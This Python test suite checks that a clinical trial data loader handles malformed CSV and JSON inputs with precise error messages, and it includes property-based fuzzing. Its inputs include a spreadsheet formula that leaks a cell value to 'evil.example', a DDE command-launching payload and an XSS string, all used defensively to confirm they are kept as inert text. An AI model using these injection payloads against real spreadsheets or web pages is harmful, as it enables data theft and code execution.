"""Bad-input suite: malformed datasets, generated here, each giving a precise message and never
a traceback; plus a property-based test of the loader (only DataError or success).

Formula-like text (`=HYPERLINK(...)`, `@SUM(...)`, `+cmd(...)`): kept exactly as typed (it is
data: changing it would change an id), shown as text, never evaluated, and reported as a warning
so that whoever exports and opens the data in a spreadsheet knows.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from trial.cli import main as trial_cli
from trial.loader import load_trial
from trial.model import DataError

from factories import study_dict, valid_tables, write_table, write_trial

ROOT = Path(__file__).resolve().parents[2]
XSS = "<img src=x onerror=alert(1)>"


# -- the malformed datasets ---------------------------------------------------------------------
# Each case: (name, builder(folder), exit code of `check`, lines that must be in its report).


def _tables(changes: dict):
    """The valid tables with cell changes {(table, row, column): value}."""
    t = valid_tables()
    for (table, row, col), value in changes.items():
        t[table].loc[row, col] = value
    return t


def _raw(name: str, data: bytes):
    def build(folder: Path):
        write_trial(folder)
        (folder / f"{name}.csv").write_bytes(data)

    return build


def _with(changes: dict):
    return lambda folder: write_trial(folder, **_tables(changes))


def _drop(table: str, *cols: str):
    def build(folder):
        t = valid_tables()
        write_trial(folder, **{table: t[table].drop(columns=list(cols))})

    return build


def _study(mutate):
    def build(folder):
        s = study_dict()
        mutate(s)
        write_trial(folder, study=s)

    return build


def _study_text(text: str):
    def build(folder):
        write_trial(folder)
        (folder / "study.json").write_text(text, encoding="utf-8")

    return build


def _append(table: str, rows: list[list[str]]):
    def build(folder):
        t = valid_tables()
        extra = pd.DataFrame(rows, columns=t[table].columns)
        write_trial(folder, **{table: pd.concat([t[table], extra], ignore_index=True)})

    return build


def _xlsx_as_csv(folder):
    write_trial(folder)
    spare = folder / "spare"
    spare.mkdir()
    write_table(spare, "events", valid_tables()["events"], "xlsx")
    (folder / "events.csv").write_bytes((spare / "events.xlsx").read_bytes())


def _parquet_lists(folder):
    write_trial(folder)
    (folder / "events.csv").unlink()
    pd.DataFrame(
        {"patient_id": [["P01"], ["P02"]], "day": [0, 7], "event": ["infusion", "infusion"]}
    ).to_parquet(folder / "events.parquet")


def _header_only_all(folder):
    write_trial(folder, **{k: v.iloc[:0] for k, v in valid_tables().items()})


def _long_text(folder):
    write_trial(
        folder,
        **_tables(
            {
                ("patients", 0, "prior_treatment"): "x" * 200_000,
                ("patients", 1, "center"): "C" * 5_000,
            }
        ),
    )


def _formula(folder):
    f = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    t = valid_tables()
    for name in t:
        t[name]["patient_id"] = t[name]["patient_id"].replace("P01", f)
    t["events"].loc[16, "term"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    write_trial(folder, **t)


CASES = [
    # missing and extra columns
    (
        "missing required column",
        _drop("measurements", "value"),
        1,
        ["ERROR: measurements.csv, row 1, column 'value': required column 'value' is missing"],
    ),
    (
        "missing patient_id everywhere",
        lambda f: write_trial(
            f, **{k: v.drop(columns="patient_id") for k, v in valid_tables().items()}
        ),
        1,
        [
            "ERROR: patients.csv, row 1, column 'patient_id': required column 'patient_id' is "
            "missing",
            "ERROR: events.csv, row 1, column 'patient_id': required column 'patient_id' is "
            "missing",
        ],
    ),
    (
        "extra column",
        lambda f: write_trial(f, events=valid_tables()["events"].assign(comment="x")),
        0,
        [
            "WARNING: events.csv, row 1, column 'comment': column not in the data format: kept, "
            "but "
            "not used"
        ],
    ),
    (
        "values in a column without a name",
        _raw("events", b"patient_id,day,,event\nP01,0,x,infusion\n"),
        1,
        ["ERROR: events.csv, row 1: column 3 has values but no name in the header"],
    ),
    (
        "header names a column twice",
        _raw("patients", b"patient_id,center,center,last_followup_day\nP01,A,B,10\n"),
        1,
        [
            "ERROR: patients.csv, row 1, column 'center': the header names column 'center' twice "
            "(columns 2 and 3)"
        ],
    ),
    (
        "every row with a surplus field",
        _raw("events", b"patient_id,day,event\nP01,0,infusion,x\nP02,0,infusion,y\n"),
        2,
        [
            "ERROR: events.csv, row 2: every row has more fields than the header (3 names; 4 "
            "fields "
            "from row 2)"
        ],
    ),
    (
        "some rows with surplus fields",
        _raw("events", b"patient_id,day,event\nP01,0,infusion\nP02,0,infusion,y\n"),
        2,
        ["ERROR: events.csv, row 3: row 3 has 4 fields but the header has 3"],
    ),
    # wrong types
    (
        "text in a number column",
        _with({("measurements", 3, "value"): "high"}),
        1,
        ["ERROR: measurements.csv, row 5, column 'value', value 'high': expected a number"],
    ),
    (
        "decimal comma",
        _with({("patients", 0, "age"): "46,5"}),
        1,
        [
            "ERROR: patients.csv, row 2, column 'age', value '46,5': expected a number (leave the "
            "cell "
            "empty if unknown); write decimals with a point, e.g. 1.5"
        ],
    ),
    (
        "fraction where a whole number is needed",
        _with({("events", 2, "day"): "7.5"}),
        1,
        ["ERROR: events.csv, row 4, column 'day', value '7.5': expected a whole number"],
    ),
    (
        "bad boolean",
        _with({("patients", 2, "lupus_nephritis"): "perhaps"}),
        1,
        [
            "ERROR: patients.csv, row 4, column 'lupus_nephritis', value 'perhaps': expected true "
            "or "
            "false"
        ],
    ),
    (
        "unknown event type",
        _with({("events", 0, "event"): "transplant"}),
        1,
        [
            "ERROR: events.csv, row 2, column 'event', value 'transplant': expected one of: "
            "infusion, "
            "response, relapse, death, adverse_event"
        ],
    ),
    # NaN and inf
    (
        "NaN and infinity",
        _with(
            {
                ("measurements", 0, "value"): "NaN",
                ("measurements", 1, "value"): "inf",
                ("patients", 0, "age"): "-Infinity",
            }
        ),
        1,
        [
            "ERROR: measurements.csv, row 2, column 'value', value 'NaN': expected a number; NaN "
            "and "
            "infinity are not accepted",
            "ERROR: measurements.csv, row 3, column 'value', value 'inf': expected a number; NaN "
            "and "
            "infinity are not accepted",
            "ERROR: patients.csv, row 2, column 'age', value '-Infinity': expected a number (leave "
            "the "
            "cell empty if unknown); NaN and infinity are not accepted",
        ],
    ),
    (
        "NaN and Infinity in study.json",
        _study_text(
            json.dumps(study_dict())
            .replace('"max": 105', '"max": NaN')
            .replace('"ref_high": 0.15', '"ref_high": Infinity')
        ),
        1,
        [
            "ERROR: study.json, key 'measures[0].max', value 'NaN': expected a number or null",
            "ERROR: study.json, key 'measures[1].ref_high', value 'Infinity': expected a number or "
            "null",
        ],
    ),
    # duplicates
    (
        "duplicate patient",
        _append("patients", [["P02", "Center A", "365", "", "", "", "", "", "", "simulated", ""]]),
        1,
        [
            "ERROR: patients.csv, row 8, column 'patient_id', value 'P02': patient_id 'P02' "
            "appears "
            "twice: rows 3 and 8; patient ids must be unique"
        ],
    ),
    (
        "duplicate measurement",
        _append("measurements", [["P01", "0", "0", "sledai", "12", "simulated"]]),
        1,
        [
            "ERROR: measurements.csv, row 63, column 'measure', value 'sledai': patient 'P01', "
            "month 0,"
            " measure 'sledai' appears twice: rows 2 and 63"
        ],
    ),
    # unknown ids
    (
        "unknown patient in measurements",
        _with({("measurements", 4, "patient_id"): "P99"}),
        1,
        [
            "ERROR: measurements.csv, row 6, column 'patient_id', value 'P99': unknown patient: "
            "not in "
            "patients.csv"
        ],
    ),
    (
        "unknown patient in events",
        _with({("events", 2, "patient_id"): "p02"}),
        1,
        [
            "ERROR: events.csv, row 4, column 'patient_id', value 'p02': unknown patient: not in "
            "patients.csv"
        ],
    ),
    (
        "unknown measure and visit",
        _with({("measurements", 5, "measure"): "dsdna", ("measurements", 3, "month"): "2"}),
        1,
        [
            "ERROR: measurements.csv, row 7, column 'measure', value 'dsdna': measure code not "
            "defined "
            "in study.json measures",
            "ERROR: measurements.csv, row 5, column 'month', value '2': month 2 is not a visit of "
            "study.json",
        ],
    ),
    # events after death
    (
        "events after death",
        _append("events", [["P03", "200", "adverse_event", "Rash", "AE", "no", "simulated"]]),
        0,
        [
            "WARNING: events.csv, row 19, column 'day', value '200': patient 'P03': death is "
            "recorded "
            "on day 150 (row 17), and 1 event(s) are recorded after it: adverse_event Rash on day "
            "200 "
            "(row 19)"
        ],
    ),
    (
        "second death",
        _append("events", [["P03", "160", "death", "Death", "SAE", "no", "simulated"]]),
        0,
        [
            "WARNING: events.csv, row 19, column 'event', value 'death': patient 'P03' has a death "
            "already recorded on day 150 (row 17)"
        ],
    ),
    # impossible values
    (
        "negative and too-high values",
        _with(
            {
                ("measurements", 3, "value"): "106",
                ("patients", 1, "age"): "130",
                ("events", 0, "day"): "-1",
            }
        ),
        1,
        [
            "ERROR: measurements.csv, row 5, column 'value', value '106': outside the possible "
            "values "
            "of 'sledai': expected between 0 and 105",
            "ERROR: patients.csv, row 3, column 'age', value '130': expected a number between 0 "
            "and 120",
            "ERROR: events.csv, row 2, column 'day', value '-1': expected a whole number ≥ 0",
        ],
    ),
    (
        "study min above max",
        _study(lambda s: s["measures"][2].update(min=5, max=1)),
        1,
        ["ERROR: study.json, key 'measures[2].min', value '5': min (5) is greater than max (1)"],
    ),
    # empty, header-only, BOM, encodings, binary
    ("empty file", _raw("patients", b""), 2, ["ERROR: patients.csv: the file is empty (0 bytes)"]),
    (
        "blank lines only",
        _raw("measurements", b"\r\n\r\n  \n"),
        2,
        ["ERROR: measurements.csv: the file contains only blank space: no header row"],
    ),
    (
        "header only: patients",
        lambda f: write_trial(f, patients=valid_tables()["patients"].iloc[:0]),
        1,
        ["ERROR: patients.csv: the table has a header but no rows: no patients"],
    ),
    (
        "header only: every table",
        _header_only_all,
        1,
        [
            "ERROR: patients.csv: the table has a header but no rows: no patients",
            "WARNING: events.csv: the table has a header but no rows: no events",
        ],
    ),
    (
        "BOM and header only",
        _raw("events", b"\xef\xbb\xbfpatient_id,day,event\n"),
        0,
        ["WARNING: events.csv: the table has a header but no rows: no events"],
    ),
    (
        "BOM only",
        _raw("patients", b"\xef\xbb\xbf"),
        2,
        ["ERROR: patients.csv: the file contains only blank space: no header row"],
    ),
    (
        "Latin-1 text",
        _raw("patients", "patient_id,center,last_followup_day\nP01,Bélair,10\n".encode("latin-1")),
        2,
        ["ERROR: patients.csv: not valid UTF-8 text (byte 0xe9 at position 41, line 2)"],
    ),
    (
        "UTF-16 text",
        _raw("events", "patient_id,day,event\n".encode("utf-16")),
        2,
        ["ERROR: events.csv: this is not UTF-8 text (it contains NUL bytes: UTF-16)"],
    ),
    (
        "binary renamed .csv",
        _xlsx_as_csv,
        2,
        [
            "ERROR: events.csv: this is not a text file: it looks like an Excel workbook or other "
            "zip "
            "archive with the wrong extension"
        ],
    ),
    (
        "PNG renamed .csv",
        _raw("measurements", b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
        2,
        ["ERROR: measurements.csv: this is not a text file: it looks like a PNG image"],
    ),
    (
        "random binary",
        _raw("events", bytes(range(256)) * 4),
        2,
        ["ERROR: events.csv: this is not UTF-8 text (it contains NUL bytes: binary data)"],
    ),
    (
        "Parquet with list cells",
        _parquet_lists,
        2,
        [
            "ERROR: events.parquet, column 'patient_id': column 'patient_id' holds ndarray values "
            "(binary data or lists), not text or numbers"
        ],
    ),
    (
        "old Mac line ends (CR only)",
        lambda f: (
            write_trial(f),
            (f / "events.csv").write_bytes((f / "events.csv").read_bytes().replace(b"\n", b"\r")),
        )[0],
        0,
        [],
    ),
    (
        "unclosed quote",
        _raw("events", b'patient_id,day,event\n"P01,0,infusion\n'),
        2,
        ["ERROR: events.csv, row 2: a text in double quotes starting in row 2 is never closed"],
    ),
    (
        "semicolons",
        _raw("patients", b"patient_id;center;last_followup_day\nP01;A;1\n"),
        2,
        ["ERROR: patients.csv: the columns are separated by semicolons, not commas"],
    ),
    (
        "study.json nested too deeply",
        _study_text("[" * 100_000 + "]" * 100_000),
        2,
        ["ERROR: study.json: not usable JSON: nested too deeply"],
    ),
    (
        "study.json wrong types",
        _study(lambda s: s.update(title=7, visits="monthly", measures=[None])),
        1,
        [
            "ERROR: study.json, key 'title', value '7': expected a text (in double quotes)",
            "ERROR: study.json, key 'visits', value '\"monthly\"': required: expected a non-empty "
            "list",
            "ERROR: study.json, key 'measures[0]': expected an object",
        ],
    ),
    # huge values
    (
        "1e308 and 1e309",
        _with(
            {
                ("measurements", 0, "value"): "1e308",
                ("measurements", 1, "value"): "1e309",
                ("events", 0, "day"): "1e308",
            }
        ),
        1,
        [
            "ERROR: measurements.csv, row 2, column 'value', value '1e308': the number is beyond "
            "±1e+15: more than any trial has",
            "ERROR: measurements.csv, row 3, column 'value', value '1e309': expected a number; the "
            "number is too large to be used here",
            "ERROR: events.csv, row 2, column 'day', value '1e308': expected a whole number; the "
            "number is too large to be used here",
        ],
    ),
    (
        "10^400 written out",
        _with(
            {
                ("patients", 0, "last_followup_day"): "1" + "0" * 400,
                ("measurements", 2, "day"): "9" * 30,
            }
        ),
        1,
        [
            "ERROR: patients.csv, row 2, column 'last_followup_day', value '1000000000",
            "…': expected a whole number; the number is too large to be used here",
            "ERROR: measurements.csv, row 4, column 'day', value '"
            + "9" * 30
            + "': expected a whole "
            "number (leave the cell empty if unknown); the number is too large to be used here",
        ],
    ),
    (
        "10^400 in study.json",
        _study_text(json.dumps(study_dict()).replace('"max": 105', '"max": 1' + "0" * 400)),
        1,
        ["ERROR: study.json, key 'measures[0].max', value '1000000000"],
    ),
    # formulas and long strings
    (
        "formula strings",
        _formula,
        0,
        [
            "WARNING: patients.csv, row 2, column 'patient_id', value '=HYPERLINK(\"http://evil."
            'example/?leak="&A1,"Click")\': starts like a spreadsheet formula: kept and shown as '
            "text, never evaluated",
            "WARNING: events.csv, row 18, column 'term', value '@SUM(1+1)*cmd|' /C calc'!A0': "
            "starts "
            "like a spreadsheet formula",
        ],
    ),
    (
        "very long strings",
        _long_text,
        1,
        [
            "ERROR: patients.csv, row 3, column 'center', value 'CCCCCCCCCC",
            "the text is too long (5,000 characters; at most 200 in this column)",
            "ERROR: patients.csv, row 2, column 'prior_treatment', value 'xxxxxxxxxx",
            "the text is too long (200,000 characters; at most 10,000 in this column)",
        ],
    ),
    (
        "markup in ids is data",
        lambda f: write_trial(f, **{k: v.replace({"P01": XSS}) for k, v in valid_tables().items()}),
        0,
        [],
    ),
    # not a folder
    ("no such folder", lambda f: None, 2, ["folder not found"]),
]


def _case_folder(tmp_path: Path, builder) -> Path:
    folder = tmp_path / "trial"
    builder(folder)
    return folder


def test_at_least_thirty_malformed_datasets():
    assert len([c for c in CASES if c[2] != 0]) >= 30
    assert len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize("name, builder, code, expected", CASES, ids=[c[0] for c in CASES])
def test_bad_input_gives_precise_message(tmp_path, capsys, name, builder, code, expected):
    folder = _case_folder(tmp_path, builder)
    # the loader: a DataError or a trial, nothing else
    try:
        trial = load_trial(folder)
        findings = list(trial.findings)
    except DataError as err:
        findings = err.findings
        assert (2 if err.unreadable else 1) == code
    # the command line: the exit code and every expected line, no traceback
    assert trial_cli(["check", str(folder)]) == code
    out = capsys.readouterr()
    report = out.out + out.err
    assert "Traceback" not in report and "check failed" not in report
    for line in expected:
        assert line in report, f"{line!r} not in:\n{report}"
    for f in findings:  # every finding names its file
        assert f.file
        assert f.level == "warning" or code != 0


@pytest.mark.parametrize("builder, code", [(_xlsx_as_csv, 2), (_formula, 0), (_long_text, 1)])
def test_check_command_in_a_process_has_no_traceback(tmp_path, builder, code):
    folder = _case_folder(tmp_path, builder)
    done = subprocess.run(
        [sys.executable, "-m", "trial", "check", str(folder)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == code
    assert "Traceback" not in done.stdout + done.stderr


def test_formula_text_is_kept_as_typed(tmp_path):
    trial = load_trial(_case_folder(tmp_path, _formula))
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in set(
        trial.patients["patient_id"]
    )
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in set(trial.events["term"])


def test_events_without_optional_columns_load(tmp_path):
    ev = valid_tables()["events"][["patient_id", "day", "event"]]
    ev = ev.loc[ev["event"] != "response"]
    trial = load_trial(write_trial(tmp_path, events=ev))
    assert {"term", "severity", "related"} <= set(trial.events.columns)


# -- property-based: the loader never fails with anything but DataError -------------------------

CELLS = st.one_of(
    st.sampled_from(
        [
            "",
            "P01",
            "P02",
            "P03",
            "0",
            "7",
            "-1",
            "1.5",
            "1e308",
            "1e309",
            "-0",
            "NaN",
            "inf",
            "true",
            "no",
            "F",
            "M",
            "infusion",
            "death",
            "response",
            "MCR",
            "sledai",
            "c3",
            "proteinuria",
            "published",
            "=1+1",
            "@A1",
            XSS,
            "1" + "0" * 400,
            "9" * 25,
            " ",
            '"',
            ",",
            "\n",
            "\r",
            "\t",
            "\x00",
            "\u200b",
            "é",
            "\ufeff",
            "Center A",
        ]
    ),
    st.text(max_size=12),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)
COLUMNS = {
    "patients": [
        "patient_id",
        "center",
        "last_followup_day",
        "age",
        "sex",
        "lupus_nephritis",
        "provenance",
        "published_fields",
        "response",
        "x",
    ],
    "measurements": ["patient_id", "month", "day", "measure", "value", "provenance", "x"],
    "events": ["patient_id", "day", "event", "term", "severity", "related", "provenance", "x"],
}


@st.composite
def tables(draw):
    table = draw(st.sampled_from(sorted(COLUMNS)))
    cols = draw(st.lists(st.sampled_from(COLUMNS[table]), min_size=0, max_size=8))
    n = draw(st.integers(min_value=0, max_value=6))
    rows = [[draw(CELLS) for _ in cols] for _ in range(n)]
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(cols)
    writer.writerows(rows)
    return table, buf.getvalue().encode("utf-8", "surrogatepass")


def _load_only_dataerror(folder: Path) -> None:
    try:
        load_trial(folder)
    except DataError as err:
        assert err.findings
        for f in err.findings:
            assert f.level in ("error", "warning") and str(f)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tables())
def test_loader_random_tables(case):
    table, data = case
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_trial(Path(tmp))
        (folder / f"{table}.csv").write_bytes(data)
        _load_only_dataerror(folder)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(sorted(COLUMNS) + ["study"]), st.binary(max_size=600))
def test_loader_random_bytes(table, data):
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_trial(Path(tmp))
        name = "study.json" if table == "study" else f"{table}.csv"
        (folder / name).write_bytes(data)
        _load_only_dataerror(folder)


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**400), max_value=10**400)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=8),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "month",
                    "day",
                    "label",
                    "code",
                    "min",
                    "max",
                    "population",
                    "unit",
                    "better",
                    "key",
                    "x",
                ]
            ),
            children,
            max_size=5,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["title", "visits", "measures", "centers", "data_status"]), JSON)
def test_loader_random_study_values(key, value):
    study = study_dict()
    study[key] = value
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_trial(Path(tmp))
        (folder / "study.json").write_text(json.dumps(study), encoding="utf-8")
        _load_only_dataerror(folder)
